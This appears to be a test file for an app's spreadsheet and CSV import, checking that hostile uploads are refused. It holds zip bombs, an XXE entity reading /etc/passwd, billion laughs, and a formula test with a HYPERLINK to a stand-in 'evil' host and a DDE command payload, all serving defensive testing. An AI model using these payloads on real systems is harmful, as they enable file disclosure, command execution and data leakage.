import { deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { must, refusal } from '../../support/office';
import { type ImportDesk, importDesk } from './support';
import { type Part, workbook, zip } from './zip';

/** trust.md F5: whatever people bring is refused by name, quickly, and the office goes on working. */
let desk: ImportDesk;
beforeAll(async () => {
  desk = await importDesk();
});
afterAll(() => desk.close());

const why = async (name: string, bytes: Uint8Array | string): Promise<string> => {
  const path = desk.file(name, bytes);
  const began = performance.now();
  const answer = await desk.office.as('csSupervisor').imports.preview({ kind: 'units', path, job: 'j' });
  // Nothing may hold the reader up; the cap is 20 s, a refusal comes at once.
  expect(performance.now() - began).toBeLessThan(20_000);
  expect(desk.count('units')).toBe(0);
  return refusal(answer);
};
const zeros = (n: number) => Buffer.alloc(n, 0x20);
const sheet = (rows: string) =>
  `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
const text = (cell: string, value: string) => `<c r="${cell}" t="inlineStr"><is><t>${value}</t></is></c>`;
const HEAD = `<row r="1">${text('A1', '房号')}${text('B1', '用途')}</row>`;

const CASES: [name: string, bytes: () => Uint8Array | string, reason: string][] = [
  [
    'zip bomb: one part shrunk beyond the ratio',
    () => workbook(sheet(`${HEAD}${' '.repeat(30_000_000)}`)),
    'imports.bomb',
  ],
  [
    'bomb beside the table',
    () => workbook(sheet(HEAD), [{ name: 'xl/media/a.bin', data: zeros(60_000_000) }]),
    'imports.bomb',
  ],
  [
    'many parts of middling size',
    () =>
      workbook(
        sheet(HEAD),
        Array.from({ length: 30 }, (_, i): Part => ({ name: `x${i}`, data: noise(80_000), says: 9_000_000 })),
      ),
    'imports.bomb',
  ],
  [
    'lying size: says less than it unpacks to',
    () => workbook(sheet(HEAD + rowsOf(4000)), [], { says: 200 }),
    'imports.notATable',
  ],
  [
    'lying size: says more than it unpacks to',
    () => workbook(sheet(HEAD), [], { says: 90_000 }),
    'imports.notATable',
  ],
  [
    'more entries than the cap',
    () =>
      workbook(
        sheet(HEAD),
        Array.from({ length: 1200 }, (_, i): Part => ({ name: `p${i}`, data: Buffer.from('x') })),
      ),
    'imports.bomb',
  ],
  [
    'an archive in the archive in place of the sheet',
    () => workbook(zip([{ name: 'a', data: zeros(1000) }])),
    'imports.notATable',
  ],
  [
    'an archive that is no workbook',
    () => zip([{ name: 'hello.txt', data: Buffer.from('hello') }]),
    'imports.notATable',
  ],
  [
    'XXE: a document type with an external entity',
    () =>
      workbook(
        `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>${sheet(`<row r="1">${text('A1', '&x;')}</row>`).slice(21)}`,
      ),
    'imports.notATable',
  ],
  [
    'billion laughs',
    () =>
      workbook(
        `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>${sheet(HEAD).slice(21)}`,
      ),
    'imports.notATable',
  ],
  [
    'an entity nobody declared',
    () => workbook(sheet(`<row r="1">${text('A1', '&evil;')}</row>`)),
    'imports.notATable',
  ],
  ['XML that ends in the middle', () => workbook(sheet(HEAD).slice(0, -20)), 'imports.notATable'],
  [
    'a million columns in a sheet',
    () => workbook(sheet(`<row r="1">${text('BCXXX1', 'x')}</row>`)),
    'imports.tooWide',
  ],
  ['a million columns in a CSV', () => `${'a,'.repeat(1_000_000)}a\n1,2\n`, 'imports.cellTooLong'],
  [
    'a cell of a million characters',
    () => `房号,用途\n${'x'.repeat(1_000_000)},住宅\n`,
    'imports.cellTooLong',
  ],
  [
    'a quote that never ends',
    () => `房号,用途\n"1-101,住宅\n${'1-102,住宅\n'.repeat(1000)}`,
    'imports.brokenCsv',
  ],
  ['beyond 20 MB', () => zeros(20 * 1024 * 1024 + 1), 'imports.tooBig'],
  ['nothing at all', () => '', 'imports.empty'],
  ['headings and no row', () => '房号,用途\n', 'imports.empty'],
  [
    'an old Excel or an encrypted one',
    () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    'imports.oldExcel',
  ],
  ['a picture', () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13, 0xff, 0xd8]), 'imports.notATable'],
  [
    'Big5 text',
    () => Buffer.from('a9d0b8b92ca5ceb37e0a312d3130312ca6eda976b8abbfeba8ed0a', 'hex'),
    'imports.encodingDoubtful',
  ],
  [
    'bytes of no encoding',
    () => Buffer.from([0x61, 0x2c, 0xff, 0xff, 0xff, 0x0a, 0x31, 0x2c, 0x32]),
    'imports.encoding',
  ],
  ['a zip cut off', () => workbook(sheet(HEAD)).subarray(0, 300), 'imports.notATable'],
];

describe('hostile files (F5)', () => {
  it.each(CASES)('%s', async (name, bytes, reason) => {
    expect(await why(`${name.replace(/\W+/g, '-')}.xlsx`, bytes())).toBe(reason);
  });

  it('a folder, and a file that is not there', async () => {
    const me = desk.office.as('csSupervisor').imports;
    expect(refusal(await me.preview({ kind: 'units', path: desk.dir, job: 'j' }))).toBe('imports.notFound');
    expect(refusal(await me.preview({ kind: 'units', path: `${desk.dir}/none.csv`, job: 'j' }))).toBe(
      'imports.notFound',
    );
  });

  it('a formula is never evaluated: its stored value counts', async () => {
    const row = `<row r="2"><c r="A2" t="str"><f>HYPERLINK("http://evil/"&amp;A1)</f><v>1-101</v></c><c r="B2" t="str"><f>cmd|' /C calc'!A0</f><v>住宅</v></c></row>`;
    const path = desk.file('formula.xlsx', workbook(sheet(HEAD + row)));
    const seen = must(
      await desk.office.as('csSupervisor').imports.preview({ kind: 'units', path, job: 'j' }),
    )!;
    expect(seen.sample).toEqual([['1-101', '住宅']]);
    expect(seen.counts.created).toBe(1);
  });
});

const rowsOf = (n: number): string =>
  Array.from({ length: n }, (_, i) => `<row r="${i + 2}">${text(`A${i + 2}`, `1-${i}`)}</row>`).join('');
/** Bytes that do not shrink. */
function noise(n: number): Buffer {
  const bytes = Buffer.alloc(n);
  let x = 1;
  for (let i = 0; i < n; i += 1) {
    x = (x * 1_103_515_245 + 12_345) % 2_147_483_648;
    bytes[i] = x % 251;
  }
  return deflateRawSync(bytes);
}
